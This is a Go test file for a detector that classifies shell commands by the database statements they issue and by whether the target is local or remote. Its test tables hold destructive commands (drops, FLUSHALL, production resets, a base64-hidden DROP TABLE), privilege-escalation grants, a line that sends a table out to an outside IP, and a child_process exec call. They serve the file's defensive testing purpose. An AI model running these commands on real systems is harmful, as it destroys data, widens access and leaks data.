package database

import (
	"fmt"
	"strings"
	"testing"

	"github.com/weir-gate/weir/internal/text/shell"
	"github.com/weir-gate/weir/internal/text/truth"
)

// found formats what a text asks of databases: kinds, with a question mark if they are not certain, and where.
func found(text string) string {
	var out []string
	for _, r := range Find(shell.Read(text, shell.Start{}), len(text)) {
		var kinds []string
		for _, s := range r.Statements {
			kind := s.Kind
			if kind == "" {
				kind = "anything"
			}
			if s.NoWhere {
				kind += " all"
			}
			kinds = append(kinds, kind)
		}
		one := strings.Join(kinds, ", ")
		if !r.Certain {
			one += "?"
		}
		out = append(out, one+map[truth.Value]string{truth.No: " elsewhere", truth.Maybe: " somewhere", truth.Yes: " here"}[r.Local])
	}
	return strings.Join(out, "; ")
}

func check(t *testing.T, rows [][2]string) {
	t.Helper()
	for _, row := range rows {
		if got := found(row[0]); got != row[1] {
			t.Errorf("%s\n\tgot  %s\n\twant %s", row[0], got, row[1])
		}
	}
}

// TestStatements shows the ways in which commands give statements to clients.
func TestStatements(t *testing.T) {
	check(t, [][2]string{
		{`psql -c 'DROP TABLE users'`, "DROP TABLE here"},
		{`psql -Xc 'drop table users' app`, "DROP TABLE here"},
		{`psql --command="DELETE FROM users" app`, "DELETE all here"},
		{`psql --comm 'DROP TABLE x'`, "DROP TABLE here"},
		{`/usr/lib/postgresql/16/bin/psql -qAtc 'drop schema public cascade'`, "DROP SCHEMA here"},
		{`psql --zz v -c 'drop table x'`, "DROP TABLE here"},
		{`psql app -c 'select 1' -c 'truncate t'`, "SELECT, TRUNCATE here"},
		{"psql app <<SQL\nBEGIN;\nDELETE FROM audit;\nCOMMIT;\nSQL", "BEGIN, DELETE all, COMMIT here"},
		{"psql app <<< 'drop table x'", "DROP TABLE here"},
		{`echo 'drop table payments;' | psql app`, "DROP TABLE here"},
		{`printf 'drop table %s;\n' users | psql app`, "DROP TABLE here"},
		{`echo ZHJvcCB0YWJsZSB4Cg== | base64 -d | psql app`, "DROP TABLE here"},
		{`echo 'drop table x' > /tmp/a.sql; psql -f /tmp/a.sql`, "DROP TABLE here"},
		{`echo 'drop table x' > a.sql && psql -fa.sql`, "DROP TABLE here"},
		{`echo 'drop table x' > a.sql && psql --file=a.sql`, "DROP TABLE here"},
		{`echo 'drop table x' > a.sql && psql < a.sql`, "DROP TABLE here"},
		{"cat > a.sql <<E\ndrop table x\nE\ncat a.sql | mysql shop", "DROP TABLE here"},
		{`psql -f migrations/1.sql`, "anything here"},
		{`mysql shop < dump.sql`, "anything? here"},
		{`gunzip -c dump.gz | psql app`, "anything? here"},
		{`psql app`, "anything here"},
		{`psql -c "$SQL"`, "anything? here"},
		{`psql -c "select * from t where id = $ID"`, "SELECT? here"},
		{`psql -c "delete from t where id = '$ID'"`, "DELETE? here"},
		{`Q='drop table x'; psql -c "$Q"`, "DROP TABLE here"},
		{`sudo -u postgres psql -c 'drop database app'`, "DROP DATABASE here"},
		{`su - postgres -c "psql -c 'drop database app'"`, "DROP DATABASE here"},
		{`docker exec -it db psql -U app -c 'drop table x'`, "DROP TABLE here"},
		{`bash -lc "psql -c 'drop table x'"`, "DROP TABLE here"},
		{`mysql -uroot -psecret -e 'drop database shop'`, "DROP DATABASE here"},
		{`mariadb --execute='truncate table a' shop`, "TRUNCATE here"},
		{`sqlite3 app.db 'DROP TABLE users'`, "DROP TABLE here"},
		{`sqlite3 -cmd 'drop table a' app.db .quit`, "DROP TABLE, SHOW here"},
		{`duckdb -c "select 1"`, "SELECT here"},
		{`duckdb my.duckdb "drop table a"`, "DROP TABLE here"},
		{`clickhouse-client -q 'DROP DATABASE events SYNC'`, "DROP DATABASE here"},
		{`clickhouse client --query 'DROP DATABASE events'`, "DROP DATABASE here"},
		{`sqlcmd -S db.acme.com -Q "DROP DATABASE x"`, "DROP DATABASE elsewhere"},
		{`Invoke-Sqlcmd -ServerInstance db.acme.com -Query "DROP DATABASE x"`, "DROP DATABASE elsewhere"},
		{`Invoke-Sqlcmd -Query "DROP DATABASE x" -ServerInstance localhost`, "DROP DATABASE here"},
		{`cqlsh -e 'DROP KEYSPACE ledger;'`, "DROP KEYSPACE here"},
		{`cockroach sql --insecure -e 'drop table t'`, "DROP TABLE here"},
		{`usql sqlite://x.db -c 'drop table t'`, "DROP TABLE here"},
		{`psql -c '\i wipe.sql'`, "anything, FILE? here"},
		{`mysql -e 'source wipe.sql' shop`, "anything, FILE? here"},
		{`psql -f <(echo 'drop table x')`, "DROP TABLE here"},
		{`psql < <(echo 'drop table x')`, "DROP TABLE here"},
		{`echo 'drop table x' | tee /dev/stderr | psql`, "DROP TABLE here"},
		{`echo app | xargs -I{} psql {} -c 'drop table x'`, "DROP TABLE here"},
		{`snowsql -q 'drop table t'`, "DROP TABLE elsewhere"},
		{`bq query --use_legacy_sql=false 'DROP TABLE d.t'`, "DROP TABLE elsewhere"},
		{`influx -execute 'DROP DATABASE metrics'`, "DROP DATABASE here"},
		{`pgcli -c 'drop table x'`, "DROP TABLE here"},
		{`mongosh shop --eval 'db.dropDatabase()'`, "DROP DATABASE here"},
		{`mongosh --eval "db.users.deleteMany({})" shop`, "DELETE all here"},
		{`echo 'db.users.drop()' | mongosh shop`, "DROP TABLE here"},
		{`echo 'db.users.drop()' > a.js; mongosh shop a.js`, "DROP TABLE here"},
		{`redis-cli FLUSHALL`, "DROP DATABASE here"},
		{`redis-cli -p 6380 -n 2 flushdb async`, "DROP DATABASE here"},
		{`valkey-cli get user:1`, "SELECT here"},
		{"redis-cli <<< 'FLUSHALL'", "DROP DATABASE here"},
		{`redis-cli --scan --pattern 'session:*' | xargs redis-cli del`, "DELETE all here"},
		{`redis-cli del a b`, "DELETE here"},
		{`redis-cli eval "return redis.call('FLUSHALL')" 0`, "anything here"},
		{`ssh prod.acme.com "psql -c 'drop table x'"`, "DROP TABLE elsewhere"},
		{`psq$Z -c 'drop table x'`, "DROP TABLE? here"},
		{`p${Z}sql -h db.acme.com -c 'drop table x'`, "DROP TABLE? elsewhere; DROP TABLE elsewhere"},
		{`echo 'drop table x' | my$(true)sql`, "DROP TABLE here"},
		{`kubectl exec db-0 -- psql -c 'drop table x'`, "DROP TABLE elsewhere"},
		{`heroku run -a shop rails db:drop`, "DROP DATABASE elsewhere"},
		{`psql -c 'drop table x'; kubectl exec db-0 -- psql -c 'drop table x'`, "DROP TABLE here; DROP TABLE elsewhere"},
	})
}

// TestMadeUpOptions shows that options which nobody knows hide no statement and no task.
func TestMadeUpOptions(t *testing.T) {
	for _, command := range []string{
		"psql%s -c 'drop table x'", "psql -h localhost%s --command='drop table x'", "mysql%s -e 'drop table x' shop",
		"sqlite3%s app.db 'drop table x'", "clickhouse-client%s --query 'drop table x'", "sqlcmd%s -Q 'drop table x'", "cqlsh%s -e 'drop table x'",
		"mongosh%s --eval 'db.x.drop()'", "redis-cli%s FLUSHALL", "npx prisma%s migrate reset", "npx prisma migrate%s reset", "bin/rails%s db:drop",
		"python manage.py%s flush", "php artisan%s migrate:fresh", "npx sequelize%s db:drop", "alembic%s downgrade base", "dropdb%s app",
		"mysqladmin%s drop app", "flyway%s clean", "liquibase%s dropAll", "mix%s ecto.drop", "dotnet ef%s database drop", "supabase%s db reset",
		"knex%s migrate:rollback --all", "echo 'drop table x' | psql%s", "psql%s <<< 'drop table x'", "duckdb%s -c 'drop table x'", "bq%s rm -r -f d",
		"influx%s -execute 'drop table x'",
	} {
		for _, option := range []string{"", " --zz", " --zz v", " --zz=v", " -J", " -J v", " -Jv"} {
			text := fmt.Sprintf(command, option)
			if got := found(text); !strings.Contains(got, "DROP") && !strings.Contains(got, "TRUNCATE") {
				t.Errorf("%s: %q", text, got)
			}
		}
	}
}

// TestTasks shows the tools that reset or drop a database.
func TestTasks(t *testing.T) {
	check(t, [][2]string{
		{`npx prisma migrate reset --force`, "DROP DATABASE somewhere"},
		{`npx prisma --schema a.prisma migrate reset`, "DROP DATABASE somewhere"},
		{`npx prisma db push --force-reset`, "DROP DATABASE somewhere"},
		{`yarn prisma migrate reset`, "DROP DATABASE somewhere"},
		{`bin/rails db:drop db:create`, "DROP DATABASE here"},
		{`bundle exec rake db:reset`, "DROP DATABASE here"},
		{`RAILS_ENV=production bin/rails db:schema:load`, "DROP DATABASE elsewhere"},
		{`RAILS_ENV=test bin/rails db:drop`, "DROP DATABASE here"},
		{`python manage.py flush --no-input`, "TRUNCATE somewhere"},
		{`python3.12 -W ignore ./manage.py reset_db`, "DROP DATABASE somewhere"},
		{`uv run python manage.py migrate shop zero`, "DROP TABLE somewhere"},
		{`npx sequelize-cli db:drop --env production`, "DROP DATABASE elsewhere"},
		{`npx sequelize db:migrate:undo:all`, "DROP TABLE here"},
		{`npx typeorm schema:drop -d src/datasource.prod.ts`, "DROP SCHEMA elsewhere"},
		{`npx drizzle-kit push --force`, "DROP TABLE somewhere"},
		{`npx knex migrate:rollback --all`, "DROP TABLE here"},
		{`alembic -x env=prod downgrade base`, "DROP TABLE, ALTER TABLE elsewhere"},
		{`python -m alembic downgrade base`, "DROP TABLE, ALTER TABLE somewhere"},
		{`flyway -url=jdbc:postgresql://db.acme.com/x clean`, "DROP SCHEMA elsewhere"},
		{`flyway -url=jdbc:postgresql://localhost/x clean`, "DROP SCHEMA here"},
		{`liquibase dropAll`, "DROP SCHEMA somewhere"},
		{`php artisan migrate:fresh --env=production`, "DROP TABLE elsewhere"},
		{`php artisan db:wipe`, "DROP TABLE somewhere"},
		{`mix ecto.reset`, "DROP DATABASE here"},
		{`MIX_ENV=test mix ecto.drop`, "DROP DATABASE here"},
		{`php bin/console doctrine:schema:drop --force`, "DROP SCHEMA somewhere"},
		{`dotnet ef database drop -f`, "DROP DATABASE here"},
		{`dropdb --if-exists app_test`, "DROP DATABASE here"},
		{`dropdb -h pg.acme.com ledger`, "DROP DATABASE elsewhere"},
		{`dropuser bob`, "DROP USER here"},
		{`mysqladmin -h db.acme.com -f drop shop`, "DROP DATABASE elsewhere"},
		{`supabase db reset`, "DROP DATABASE here"},
		{`supabase db reset --linked`, "DROP DATABASE elsewhere"},
		{`mongorestore --drop dump/`, "DROP TABLE here"},
		{`pg_restore --clean -h db.acme.com -d shop old.dump`, "DROP elsewhere"},
		{`bq rm -r -f -d acme:analytics`, "DROP SCHEMA elsewhere"},
		{`influx bucket delete -n metrics --host https://influx.acme.com`, "DROP DATABASE elsewhere"},
		{`wrangler d1 execute dev-db --local --command 'DROP TABLE cache'`, "DROP TABLE here"},
		{`wrangler d1 execute db --remote --command 'DROP TABLE cache'`, "DROP TABLE elsewhere"},
		{`heroku pg:reset -a shop`, "DROP DATABASE elsewhere"},
		{`python manage.py dbshell <<< 'drop table x'`, "anything somewhere"},
		{`gcloud sql connect shop <<< 'drop table x'`, "anything, DROP TABLE elsewhere"},
		{`./gradlew flywayClean`, "DROP SCHEMA somewhere"},
		{`mvn -q flyway:clean`, "DROP SCHEMA somewhere"},
	})
}

// TestNothing shows everyday commands that ask nothing, or only mention a statement.
func TestNothing(t *testing.T) {
	for _, text := range []string{
		`psql --version`, `psql -l`, `mysql --help`, `redis-cli --version`, `sqlite3 --version`, `npx prisma generate`,
		`npx prisma migrate dev`, `bin/rails test`, `bin/rails db:migrate`, `python manage.py migrate`, `python manage.py test`, `php artisan test`,
		`mix test`, `mix ecto.migrate`, `alembic upgrade head`, `alembic check`, `npx drizzle-kit generate`, `flyway info`, `git log -S 'DROP TABLE'`,
		`git commit -m "psql -c 'drop table users'"`, `echo "DROP TABLE x"`, `grep -rn 'db.dropDatabase()' src`, `dotnet build`,
		`dotnet ef migrations add X`, `truncate -s 0 app.log`, `yarn add prisma`, `npm run db:migrate`, `node server.js`, `python -c 'print(1)'`,
		`apt install psql mysql`, `which psql redis-cli`, `bq ls`, `wrangler deploy`, `wrangler d1 list`, `supabase start`, `rake spec`, `man psql`,
		`aws s3 ls --query 'Buckets[].Name'`, `aws sts get-caller-identity`, `gcloud projects list --format=json`, `./gradlew build`, `mvn -q test`,
		`$CMD -c 'drop table x'`, `g$Z status`, `ls$Z -l`,
		`docker compose up db`, `pg_isready -h localhost`,
	} {
		if got := found(text); got != "" {
			t.Errorf("%s: %s", text, got)
		}
	}
}

// TestTargets shows how it is found where a database is.
func TestTargets(t *testing.T) {
	for want, targets := range map[string][]string{
		"here": {
			"-h localhost", "-h 127.1 app", "--host=::1", "-h /var/run/postgresql", "-h db app", "-h postgres -U app shop", "app", "-d app",
			"postgres://app:pw@localhost:5433/app", "postgres://db/app", "postgresql:///app", "'host=localhost dbname=app'",
			"-d postgres://127.0.0.1/x", "-h host.docker.internal app", "-h 0x7f.1", "postgres://app@ci.acme.com/app_test",
			"-h \"$HOST\" app_test", "'postgres:///app?host=/tmp'", "-h localhost latest",
		},
		"elsewhere": {
			"-h db.acme.com", "-h 10.20.0.5 app", "--host logs.example.com", "postgres://app@db.acme.com/app", "'host=db.acme.com dbname=app'",
			"-h prod-db app", "-h localhost app_production", "postgres://localhost/shop_prod", "postgres://localhost.evil.example/x",
			"-h db.acme.com latest", "'postgres:///app?host=db.acme.com'", "-h db.prod.acme.com app_test", "-d 'host=128.0.0.1'", "live",
		},
		"somewhere": {`"$DATABASE_URL"`, `-h "$HOST" app`, `"postgres://$HOST/app"`, `-d "$DB"`},
	} {
		for _, target := range targets {
			for _, command := range []string{"psql %s -c 'drop table x'", "sudo psql %s <<< 'drop table x'"} {
				text := fmt.Sprintf(command, target)
				if got := found(text); !strings.HasSuffix(got, " "+want) {
					t.Errorf("%s: %s, want %s", text, got, want)
				}
			}
		}
	}
	check(t, [][2]string{
		{"PGHOST=db.acme.com psql -c 'drop table x'", "DROP TABLE elsewhere"},
		{"export PGHOST=db.acme.com; psql -c 'drop table x'", "DROP TABLE elsewhere"},
		{"env PGHOST=localhost psql -c 'drop table x'", "DROP TABLE here"},
		{"DATABASE_URL=postgres://app@db.acme.com/app npx prisma migrate reset", "DROP DATABASE elsewhere"},
		{"DATABASE_URL=postgres://localhost/app npx prisma migrate reset", "DROP DATABASE here"},
		{"DATABASE_URL=file:./dev.db npx prisma migrate reset", "DROP DATABASE here"},
		{"NODE_ENV=production npx prisma migrate reset", "DROP DATABASE elsewhere"},
		{"python manage.py flush --settings=acme.settings.production", "TRUNCATE elsewhere"},
		{"MYSQL_HOST=db.acme.com mysql -e 'drop table x'", "DROP TABLE elsewhere"},
		{"mysql -hdb.acme.com -e 'drop table x'", "DROP TABLE elsewhere"},
		{"mysql -S /tmp/mysql.sock -e 'drop table x'", "DROP TABLE here"},
		{"mongosh mongodb+srv://cluster0/app --eval 'db.dropDatabase()'", "DROP DATABASE elsewhere"},
		{"mongosh db.acme.com:27017/app --eval 'db.dropDatabase()'", "DROP DATABASE elsewhere"},
		{"mongosh mongodb://localhost:27017/shop --eval 'db.dropDatabase()'", "DROP DATABASE here"},
		{"redis-cli -u redis://cache.acme.com:6379 FLUSHALL", "DROP DATABASE elsewhere"},
		{"redis-cli -h redis FLUSHALL", "DROP DATABASE here"},
		{"sqlite3 /var/lib/acme/prod.sqlite 'DROP TABLE users'", "DROP TABLE elsewhere"},
		{"sqlite3 :memory: 'DROP TABLE users'", "DROP TABLE here"},
		{"mongosh --host rs0/db1.acme.com:27017,db2.acme.com:27017 --eval 'db.dropDatabase()'", "DROP DATABASE elsewhere"},
		{"mongosh --host rs0/localhost:27017 --eval 'db.dropDatabase()'", "DROP DATABASE here"},
		{"rake db:drop RAILS_ENV=production", "DROP DATABASE elsewhere"},
		{"rake db:drop RAILS_ENV=test", "DROP DATABASE here"},
		{"aws rds-data execute-statement --sql 'drop table x'", "DROP TABLE elsewhere"},
		{"aws --endpoint-url http://localhost:4566 rds-data execute-statement --sql 'drop table x'", "DROP TABLE here"},
		{"flyway -configFiles=prod.conf clean", "DROP SCHEMA elsewhere"},
		{"docker -H tcp://10.0.0.5:2375 exec db psql -c 'drop table x'", "DROP TABLE elsewhere"},
		{"docker --context build exec db psql -c 'drop table x'", "DROP TABLE somewhere"},
		{"docker --context default exec db psql -c 'drop table x'", "DROP TABLE here"},
		{"docker run --rm postgres psql -h db.acme.com -c 'drop table x'", "DROP TABLE elsewhere"},
		{"sqlcmd -S tcp:db.database.windows.net,1433 -Q 'drop table x'", "DROP TABLE elsewhere"},
		{"sqlcmd -S tcp:localhost,1433 -Q 'drop table x'", "DROP TABLE here"},
		{`sqlcmd -S '.\SQLEXPRESS' -Q 'drop table x'`, "DROP TABLE here"},
		{"echo 'drop table x;' | sqlplus app/pw@//db.acme.com:1521/shop", "DROP TABLE elsewhere"},
		{"mongosh db.acme.com/app --eval 'db.dropDatabase()'", "DROP DATABASE elsewhere"},
		{"mongosh localhost/app --eval 'db.dropDatabase()'", "DROP DATABASE here"},
		{"psql service=analytics -c 'drop table x'", "DROP TABLE somewhere"},
		{"PGSERVICE=analytics psql -c 'drop table x'", "DROP TABLE somewhere"},
		{"psql -h localhost -h db.acme.com -c 'drop table x'", "DROP TABLE somewhere"},
		{"mysql --login-path=prod -e 'drop table x'", "DROP TABLE elsewhere"},
		{"mysql -h 0x0a000005 -e 'drop table x'", "DROP TABLE elsewhere"},
		{"psql -h db:5432 -c 'drop table x'", "DROP TABLE here"},
		{"DATABASE_URL=sqlite:./app.db npx knex migrate:rollback --all", "DROP TABLE here"},
		{"docker exec prod-db psql -c 'drop database app'", "DROP DATABASE elsewhere"},
		{"docker compose exec -T db mysql -e 'drop database shop_production'", "DROP DATABASE elsewhere"},
		{"docker compose exec -T db mysql -e 'drop database shop'", "DROP DATABASE here"},
		{"cqlsh cassandra.acme.com -e 'DROP KEYSPACE a'", "DROP KEYSPACE elsewhere"},
		{"cqlsh localhost 9042 -e 'DROP KEYSPACE a'", "DROP KEYSPACE here"},
	})
}

func TestMongo(t *testing.T) {
	for code, want := range map[string]string{
		`db.getSiblingDB("shop").dropDatabase()`:             "DROP DATABASE here",
		`db["users"].drop()`:                                 "DROP TABLE here",
		`db.users["drop"]()`:                                 "DROP TABLE here",
		`db["dropDatabase"]()`:                               "DROP DATABASE here",
		`db["drop"+"Database"]()`:                            "anything here",
		`db.runCommand({dropDatabase: 1})`:                   "DROP DATABASE here",
		`db.runCommand({"drop": "users"})`:                   "DROP TABLE here",
		`db.users.deleteMany({})`:                            "DELETE all here",
		`db.users.deleteMany( { } )`:                         "DELETE all here",
		`db.users.deleteMany({_id: {$exists: true}})`:        "DELETE all here",
		`db.users.deleteMany({plan: "free"})`:                "DELETE here",
		`db.users.remove({})`:                                "DELETE all here",
		`db.users.updateMany({}, {$set: {a: 1}})`:            "UPDATE all here",
		`db.users.find({status: "drop"}).limit(3)`:           "SELECT here",
		`db.users.find({update: 1})`:                         "SELECT, UPDATE here",
		`db.users.insertMany([{a: 1}, {a: 2}])`:              "INSERT here",
		`db.getCollectionNames().forEach(c => db[c].drop())`: "SHOW, DROP TABLE here",
		`show dbs`: "SHOW here",
		`require("child_process").execSync("id")`:                     "SHELL, SHELL here",
		`db.orders.aggregate([{$match: {a: 1}}, {$group: {_id: 1}}])`: "SELECT here",
	} {
		if got := found("mongosh --eval '" + code + "'"); got != want {
			t.Errorf("%s: %s, want %s", code, got, want)
		}
	}
}

// TestRepeated shows that a script which many commands use is not read over and over.
func TestRepeated(t *testing.T) {
	var text strings.Builder
	text.WriteString("cat > a.sql <<E\n" + strings.Repeat("select 1;\n", 1<<13) + "E\n")
	for i := range 1 << 10 {
		fmt.Fprintf(&text, "psql -f a.sql db%d\n", i)
	}
	requests := Find(shell.Read(text.String(), shell.Start{}), text.Len())
	if last := requests[len(requests)-1]; last.Statements[0].Kind != "" {
		t.Errorf("the last of %d has %d statements", len(requests), len(last.Statements))
	}
}

// FuzzFind checks that any command is read without failing, and that each request asks for something.
func FuzzFind(f *testing.F) {
	for _, text := range []string{
		"psql -c 'drop table x'", "mongosh --eval 'db[\"x\"].drop()'", "redis-cli del a", "npx prisma migrate reset", "psql 'host=a dbname=b' <<< 'x'", "sqlcmd -S a,1 -Q x",
	} {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		found := Find(shell.Read(text, shell.Start{}), len(text))
		for _, r := range found {
			if len(r.Statements) == 0 {
				t.Errorf("%q: a request for nothing", text)
			}
		}
		mongoStatements(text)
		split(text)
		localHost(text)
	})
}

// TestModels shows code with the models of an application, which counts where the command says that it is for production.
func TestModels(t *testing.T) {
	check(t, [][2]string{
		{`bin/rails runner -e production 'User.delete_all'`, "DELETE all elsewhere"},
		{`RAILS_ENV=production rails runner 'User.destroy_all'`, "DELETE all elsewhere"},
		{`rails c -e production <<< 'User.destroy_all'`, "DELETE all elsewhere"},
		{`rails runner -e production 'Order.where(paid: false).destroy_all'`, "DELETE elsewhere"},
		{`python manage.py shell -c "Order.objects.all().delete()" --settings=acme.prod`, "DELETE all elsewhere"},
		{`DJANGO_SETTINGS_MODULE=acme.prod python manage.py shell -c "Order.objects.all().delete()"`, "DELETE all elsewhere"},
		{`php artisan tinker --execute="User::truncate();" --env=production`, "TRUNCATE elsewhere"},
		{`rails runner 'User.delete_all'`, ""},
		{`python manage.py shell -c "Order.objects.count()" --settings=acme.prod`, ""},
		{`rails runner -e production 'puts User.count'`, ""},
		{`wp db drop --yes`, "DROP DATABASE somewhere"},
		{`drush @prod sql-drop`, "DROP TABLE somewhere"},
		{`atlas schema clean -u postgres://db.acme.com/x`, "DROP SCHEMA elsewhere"},
	})
}

// Rights over a whole server, data that leaves it, and statements that one client makes for another.
func TestBeyondTables(t *testing.T) {
	check(t, [][2]string{
		{`mysql -u root -e "GRANT ALL PRIVILEGES ON *.* TO 'a'@'localhost'"`, "ADMIN, GRANT here"},
		{`mysql -u root -e "GRANT ALL ON shop.* TO 'a'@'%'"`, "ADMIN, GRANT here"},
		{`mariadb -e "grant select on shop.* to 'a'@'localhost' with grant option"`, "ADMIN, GRANT here"},
		{`psql -c 'GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC'`, "ADMIN, GRANT here"},
		{`psql -c 'ALTER ROLE app WITH SUPERUSER'`, "ADMIN, ALTER ROLE here"},
		{`sqlcmd -S localhost -Q 'ALTER SERVER ROLE sysadmin ADD MEMBER eve'`, "ADMIN, ALTER SERVER here"},
		{`mongosh admin --eval 'db.createUser({user:"x",pwd:"x",roles:["root"]})'`, "ADMIN, CREATE USER here"},
		{`redis-cli ACL SETUSER default on nopass '+@all'`, "ADMIN here"},
		{`clickhouse-client -q "INSERT INTO FUNCTION url('http://203.0.113.5/', 'CSV') SELECT * FROM t"`, "FILE, INSERT here"},
		{`psql -c "SELECT aws_s3.query_export_to_s3('select 1', 'b')"`, "FILE, SELECT here"},
		{`duckdb -c "COPY (SELECT 1) TO 's3://b/x.parquet'"`, "FILE, COPY TO here"},
		{`mysql -e "SELECT CONCAT('DROP TABLE ', t, ';') FROM x" | mysql`, "SELECT here; anything, DROP SCHEMA? here"},
		{`psql -Atc "select 'truncate '||t from x" | psql`, "SELECT here; anything, TRUNCATE? here"},
		// These are everyday work.
		{`mysql -e "GRANT SELECT ON shop.* TO 'a'@'localhost'"`, "GRANT here"},
		{`psql -c 'GRANT SELECT ON t TO reader'`, "GRANT here"},
		{`psql -c 'ALTER ROLE app WITH NOSUPERUSER'`, "ALTER ROLE here"},
		{`psql -c 'CREATE TABLE superuser (id int)'`, "CREATE TABLE here"},
		{`duckdb -c "COPY (SELECT 1) TO 'x.parquet'"`, "COPY TO here"},
		{`mongosh app --eval 'db.createUser({user:"x",pwd:"x",roles:["readWrite"]})'`, "CREATE USER here"},
	})
}
